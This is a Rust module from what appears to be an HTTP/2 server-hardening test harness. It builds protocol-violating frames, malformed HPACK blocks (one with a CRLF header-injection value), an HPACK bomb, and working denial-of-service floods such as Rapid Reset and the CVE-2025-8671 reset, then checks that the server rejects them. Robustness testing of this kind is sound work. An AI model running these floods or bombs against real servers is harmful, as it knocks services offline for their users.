//! HTTP/2 frames that break the protocol (RFC 9113), header blocks that break HPACK (RFC 7541), and floods of frames that cost the
//! sender little.

use std::time::Duration;

use anyhow::Result;
use tokio::time::Instant;

use crate::attack::{Attack, Context, Observation, Target};
use crate::wire::{
    END_HEADERS, END_STREAM, Frames, PADDED, Reaction, block, frame, headers, integer, kind, request,
    settings,
};

const CLASS: &str = "http2";
/// How long a server may take to end what breaks the protocol.
const REACTION: Duration = Duration::from_secs(3);
/// Before a connection that ended is made again.
const PAUSE: Duration = Duration::from_millis(5);
/// Frames in one write of a flood.
const BURST: u32 = 500;

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = broken_frames();
    all.extend(broken_blocks());
    all.extend(floods());
    all
}

/// Frames behind the preface, after which the server must have ended the stream or the connection, and answered nothing with
/// success.
///
/// Of these frames, so many are a request that may be answered with success.
fn violation(name: &str, bytes: Vec<u8>, may_succeed: u64) -> Attack {
    Attack::repeated(CLASS, format!("{CLASS}: {name}"), Target::Log, move |context: Context| {
        let bytes = bytes.clone();
        async move { violated(&context, &bytes, may_succeed).await }
    })
}

async fn violated(context: &Context, bytes: &[u8], may_succeed: u64) -> Result<Observation> {
    let mut frames = Frames::open(context.to, 0, &[]).await?;
    // The server may close before everything is written.
    let _ = frames.write_reading(bytes).await;
    let begin = Instant::now();
    let ended = |it: &Reaction| it.closed || it.goaway || it.resets > 0 || it.answers > 0;
    while !ended(&frames.reaction) && begin.elapsed() < REACTION {
        frames.obey(Instant::now() + Duration::from_millis(20)).await;
    }
    let reaction = &frames.reaction;
    let complaint = (!ended(reaction)).then(|| format!("it went on as if nothing were wrong: {reaction:?}"));
    let taken = reaction.successes > may_succeed;
    let taken = taken.then(|| format!("{} requests were answered with success", reaction.successes));
    Ok(Observation::sent(1_u64).with(complaint).with(taken))
}

fn get() -> Vec<u8> {
    request("GET", "/checkpoint", &[])
}

fn broken_frames() -> Vec<Attack> {
    let window = |stream, by: u32| frame(kind::WINDOW_UPDATE, 0, stream, &by.to_be_bytes());
    let reset = |stream| frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("headers on stream 0", headers(0, &get(), true)),
        ("data on stream 0", frame(kind::DATA, 0, 0, b"x")),
        ("data on a stream that there is none of", frame(kind::DATA, 0, 5, b"x")),
        ("headers on an even stream", headers(2, &get(), true)),
        ("streams that go backwards", [headers(7, &get(), true), headers(3, &get(), true)].concat()),
        ("headers that were ended, again", [headers(1, &get(), true), headers(1, &get(), true)].concat()),
        ("a frame of 16 MiB", frame(kind::DATA, 0, 1, &vec![0; (1 << 24) - 1])),
        ("a frame a byte too long", frame(kind::HEADERS, END_HEADERS, 1, &vec![0; 16_385])),
        ("settings of five bytes", frame(kind::SETTINGS, 0, 0, &[0; 5])),
        ("settings on a stream", frame(kind::SETTINGS, 0, 1, &[])),
        ("an acknowledgement with settings", frame(kind::SETTINGS, 1, 0, &[0, 4, 0, 0, 0, 1])),
        ("a window of 2^31", settings(&[(4, 1 << 31)])),
        ("frames of no bytes", settings(&[(5, 0)])),
        ("push that is neither on nor off", settings(&[(2, 2)])),
        ("a ping of seven bytes", frame(kind::PING, 0, 0, &[0; 7])),
        ("a ping on a stream", frame(kind::PING, 0, 1, &[0; 8])),
        ("a window update of nothing", window(0, 0)),
        ("a window beyond 2^31", [window(0, 0x7fff_ffff), window(0, 0x7fff_ffff)].concat()),
        ("a window update of three bytes", frame(kind::WINDOW_UPDATE, 0, 0, &[0; 3])),
        ("a reset of a stream that there is none of", reset(9)),
        ("a reset of stream 0", reset(0)),
        ("a priority on stream 0", frame(kind::PRIORITY, 0, 0, &[0; 5])),
        ("a priority of four bytes", frame(kind::PRIORITY, 0, 1, &[0; 4])),
        ("a promise from a client", frame(kind::PUSH_PROMISE, END_HEADERS, 1, &[0, 0, 0, 2])),
        ("a continuation of nothing", frame(kind::CONTINUATION, END_HEADERS, 1, &get())),
        (
            "a ping within headers",
            [frame(kind::HEADERS, 0, 1, &get()), frame(kind::PING, 0, 0, &[0; 8])].concat(),
        ),
        ("padding longer than its frame", frame(kind::DATA, PADDED, 1, &[255, 0])),
        ("a farewell", frame(kind::GOAWAY, 0, 0, &[0; 7])),
        ("HTTP/1.1 behind the preface", b"GET /checkpoint HTTP/1.1\r\nHost: l\r\n\r\n".to_vec()),
    ];
    cases.into_iter().map(|(name, bytes)| violation(name, bytes, 1)).collect()
}

fn broken_blocks() -> Vec<Attack> {
    let with = |fields: &[(&str, &str)]| headers(1, &request("GET", "/checkpoint", fields), true);
    let raw = |bytes: &[u8]| headers(1, &[get().as_slice(), bytes].concat(), true);
    let post = request("POST", "/add", &[("content-length", "9")]);
    let mut huge_table = Vec::new();
    integer(1 << 30, 5, &mut huge_table);
    huge_table[0] |= 0x20;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("an index of 0", raw(&[0x80])),
        ("an index beyond the table", raw(&[0xff, 0xff, 0x7f])),
        ("an index that overflows", raw(&[0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f])),
        ("a table of a gigabyte", headers(1, &[huge_table, get()].concat(), true)),
        ("text that is longer than its block", raw(&[0x00, 0x7f, b'a'])),
        ("Huffman codes with wrong padding", raw(&[0x00, 0x01, b'a', 0x82, 0x00, 0x00])),
        ("a name in capitals", with(&[("X-Upper", "1")])),
        ("a header of HTTP/1.1", with(&[("connection", "keep-alive")])),
        ("chunks in HTTP/2", with(&[("transfer-encoding", "chunked")])),
        ("two paths", with(&[(":path", "/healthz")])),
        ("an unknown pseudo-header", with(&[(":evil", "1")])),
        (
            "a path behind a header",
            headers(1, &block(&[(":method", "GET"), (":scheme", "http"), ("a", "b"), (":path", "/")]), true),
        ),
        ("no method", headers(1, &block(&[(":scheme", "http"), (":path", "/")]), true)),
        (
            "an empty path",
            headers(1, &block(&[(":method", "GET"), (":scheme", "http"), (":path", "")]), true),
        ),
        ("a status from a client", headers(1, &block(&[(":status", "200")]), true)),
        ("a line break in a value", with(&[("x", "a\r\nhost: evil")])),
        ("NUL in a value", with(&[("x", "a\0b")])),
        (
            "less than the length that was named",
            [headers(1, &post, false), frame(kind::DATA, END_STREAM, 1, b"x")].concat(),
        ),
        (
            "more than the length that was named",
            [headers(1, &post, false), frame(kind::DATA, END_STREAM, 1, &[b'x'; 99])].concat(),
        ),
        (
            "trailers with a path",
            [headers(1, &post, false), headers(1, &block(&[(":path", "/")]), true)].concat(),
        ),
    ];
    let mut all: Vec<Attack> = cases.into_iter().map(|(name, bytes)| violation(name, bytes, 0)).collect();
    all.push(violation("an HPACK bomb", hpack_bomb(), 1));
    all
}

/// One header of 4,000 bytes put into the table, then named 12,000 times: 12 kB that mean 48 MB.
fn hpack_bomb() -> Vec<u8> {
    let mut stored = vec![0x40, 1, b'x'];
    integer(4_000, 7, &mut stored);
    stored.extend([b'y'; 4_000]);
    let first = headers(1, &[get(), stored].concat(), true);
    let second = headers(3, &[get(), vec![0xbe; 12_000]].concat(), true);
    [first, second].concat()
}

type Burst = fn(u32) -> Vec<u8>;

/// Frames in bursts on connections from several addresses, made again when they end; what comes back is read, or not.
fn flood(name: &str, (connections, reads): (usize, bool), burst: Burst) -> Attack {
    Attack::lasting(CLASS, format!("{CLASS}: a flood of {name}"), Target::Log, move |context| async move {
        let one = |number| flooded(context.to, (number, reads), burst, context.end());
        let sent = futures::future::join_all((0..connections).map(one)).await;
        Ok(Observation::sent(sent.into_iter().sum::<u64>()))
    })
}

async fn flooded(
    to: std::net::SocketAddr,
    (number, reads): (usize, bool),
    burst: Burst,
    end: Instant,
) -> u64 {
    let mut sent = 0;
    while Instant::now() < end {
        tokio::time::sleep(PAUSE).await;
        let Ok(mut frames) = Frames::open(to, number, &[]).await else { continue };
        for round in 0.. {
            let bytes = burst(round);
            let written = if reads { frames.write_reading(&bytes).await } else { frames.write(&bytes).await };
            if written.is_err() || Instant::now() >= end {
                break;
            }
            sent += u64::from(BURST);
        }
    }
    sent
}

/// The stream number `nth` of a burst.
fn stream(round: u32, nth: u32) -> u32 {
    (round.wrapping_mul(BURST).wrapping_add(nth)).wrapping_mul(2).wrapping_add(1) & 0x7fff_ffff
}

fn burst(of: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    (0..BURST).flat_map(of).collect()
}

fn floods() -> Vec<Attack> {
    let rapid: Burst = |round| {
        burst(|nth| {
            let stream = stream(round, nth);
            [headers(stream, &get(), true), frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
        })
    };
    // The server resets the stream itself: a window update of 0 on a request that is under way (CVE-2025-8671).
    let made: Burst = |round| {
        burst(|nth| {
            let stream = stream(round, nth);
            [headers(stream, &get(), true), frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
        })
    };
    let continuations: Burst = |round| {
        let begin = if round == 0 { frame(kind::HEADERS, 0, 1, &get()) } else { Vec::new() };
        [begin, burst(|_| frame(kind::CONTINUATION, 0, 1, &block(&[("x", "y")])))].concat()
    };
    let empty_continuations: Burst = |round| {
        let begin = if round == 0 { frame(kind::HEADERS, 0, 1, &get()) } else { Vec::new() };
        [begin, burst(|_| frame(kind::CONTINUATION, 0, 1, &[]))].concat()
    };
    let empty_data: Burst = |round| {
        let begin = if round == 0 { headers(1, &request("POST", "/add", &[]), false) } else { Vec::new() };
        [begin, burst(|_| frame(kind::DATA, 0, 1, &[]))].concat()
    };
    let one_byte: Burst = |round| {
        let begin = if round == 0 { headers(1, &request("POST", "/add", &[]), false) } else { Vec::new() };
        [begin, burst(|_| frame(kind::DATA, 0, 1, b"x"))].concat()
    };
    let padding: Burst = |round| {
        let begin = if round == 0 { headers(1, &request("POST", "/add", &[]), false) } else { Vec::new() };
        [begin, burst(|_| frame(kind::DATA, PADDED, 1, &[&[255][..], &[0; 255]].concat()))].concat()
    };
    vec![
        flood("streams that are reset at once", (4, true), rapid),
        flood("streams that the server has to reset", (4, true), made),
        flood("requests", (4, true), |round| burst(|nth| headers(stream(round, nth), &get(), true))),
        flood("continuations", (4, true), continuations),
        flood("empty continuations", (4, true), empty_continuations),
        flood("empty data", (4, true), empty_data),
        flood("data of one byte", (4, true), one_byte),
        flood("padding", (4, true), padding),
        flood("pings", (4, true), |_| burst(|_| frame(kind::PING, 0, 0, &[7; 8]))),
        flood("pings, of which no reply is read", (4, false), |_| {
            burst(|_| frame(kind::PING, 0, 0, &[7; 8]))
        }),
        flood("settings", (4, true), |_| burst(|_| settings(&[(4, 65_535)]))),
        flood("settings, of which no reply is read", (4, false), |_| burst(|_| settings(&[(4, 65_535)]))),
        flood("priorities", (4, true), |round| {
            burst(|nth| frame(kind::PRIORITY, 0, stream(round, nth), &[0, 0, 0, 0, 1]))
        }),
        flood("window updates", (4, true), |_| {
            burst(|_| frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
        }),
        flood("unknown frames", (4, true), |_| burst(|_| frame(0xee, 0, 0, &[0; 64]))),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_hpack_bomb_names_its_table_entry_thousands_of_times() {
        let bomb = hpack_bomb();
        assert!(bomb.len() < 17_000, "it is small: {}", bomb.len());
        assert_eq!(bomb.iter().filter(|byte| **byte == 0xbe).count(), 12_000);
    }

    #[test]
    fn streams_of_a_flood_are_odd_and_grow() {
        assert_eq!([stream(0, 0), stream(0, 1), stream(1, 0)], [1, 3, 1_001]);
    }
}
